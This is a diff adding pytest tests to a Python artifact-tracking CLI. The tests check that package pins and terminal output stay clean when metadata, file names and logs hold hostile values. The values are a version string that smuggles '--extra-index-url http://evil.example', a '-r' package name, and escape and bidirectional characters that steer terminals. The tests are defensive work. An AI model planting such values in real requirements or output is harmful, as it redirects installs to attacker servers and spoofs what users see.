@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
+import contextlib
+import json
 import subprocess
+import sys
 from importlib.metadata import version
 from pathlib import Path
 
 import pytest
 
 import elliptio as eio
+from elliptio.cli import output
 from tests.cli.conftest import Run
 
 
@@ -31,6 +35,64 @@ def test_packages(cli: Run, saved: str) -> None:
     assert f"pymongo=={version('pymongo')}" in lines
     found = [line.split("==")[0] for line in lines]
     assert found == sorted(found)
+
+
+def test_packages_are_pins_whatever_the_document_says(cli: Run, saved: str, root: Path) -> None:
+    hostile = {"numpy": "2.0\n--extra-index-url http://evil.example", "x\x1b]0;a\x07": "1", "-r": "x", "a": "1"}
+    found = next(root.rglob(f"*{saved}/metadata.json"))
+    text = json.loads(found.read_text())
+    text["environment"]["python_packages"] = hostile
+    text["environment"]["_id"] = text["environment_id"] = "environment_" + "e" * 64
+    found.chmod(0o644)
+    found.write_text(json.dumps(text))
+    for path in root.glob(".elliptio/index.sqlite*"):
+        path.unlink()
+    assert cli("reindex").code == 0
+    result = cli("show", saved, "--packages")
+    assert result.out == "a==1\n"
+    assert result.err.count("\n") == 3
+    assert "is no name and version of a package" in result.err
+    assert "\x1b" not in result.err
+
+
+STEERING = "a\x9b31mb\u202ec\x85d\u2066e"
+PLAIN = "a�31mb�c�d�e"
+
+
+def test_nothing_steers_the_terminal(cli: Run, root: Path, here: Path) -> None:
+    (here / STEERING).write_text("x")
+    h = eio.Handler(root)
+    with h.run("train", {STEERING: STEERING}) as run:
+        a = h.upload([STEERING], labels={"infos": {"x": STEERING}})
+    for words in (
+        ["show", a.artifact_id], ["show", a.artifact_id, "--json"], ["find"], ["find", "--json"], ["verify"], ["tags"],
+        ["get", a.artifact_id, "--to", "out"], ["get", a.artifact_id, "--to", "out", "--json"], ["runs"],
+        ["runs", "--json"], ["runs", "--tree", run.run_id], ["lineage", a.artifact_id], ["identify", STEERING],
+        ["get", a.artifact_id, "--file", STEERING + "x"], ["get", STEERING], ["compare", a.artifact_id, STEERING],
+        ["show", "--" + STEERING], ["get", STEERING, "--json"], [STEERING, "--json"],
+    ):  # fmt: skip
+        result = cli(*words)
+        assert not set("\x1b\x9b\x85\u202e\u2066").intersection(result.out + result.err), words
+    shown = cli("get", a.artifact_id, "--to", "out").out
+    assert shown == f"out/{PLAIN}\n"
+    # JSON says exactly what it is.
+    assert cli("get", a.artifact_id, "--to", "out", "--json").json[0]["relpath"] == STEERING
+
+
+def test_what_a_program_reads_is_as_it_was(cli: Run, root: Path) -> None:
+    h = eio.Handler(root)
+    with h.new(["x"], log_output=True) as new:
+        print("\x1b[1mprinted\x9b")
+        new.file.upload_string("x")
+    assert cli("show", new.artifact_id, "--log", "output.log").out == "\x1b[1mprinted\x9b\n"
+
+
+def test_a_terminal_is_not_steered_by_logs(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
+    shown = output.Shown(sys.stdout)
+    monkeypatch.setattr(shown, "isatty", lambda: True)
+    with contextlib.redirect_stdout(shown):
+        output.print_content("\x1b[1mprinted\x9b\n")
+    assert capsys.readouterr().out == "�[1mprinted�\n"
 
 
 def test_a_log(cli: Run, root: Path) -> None:
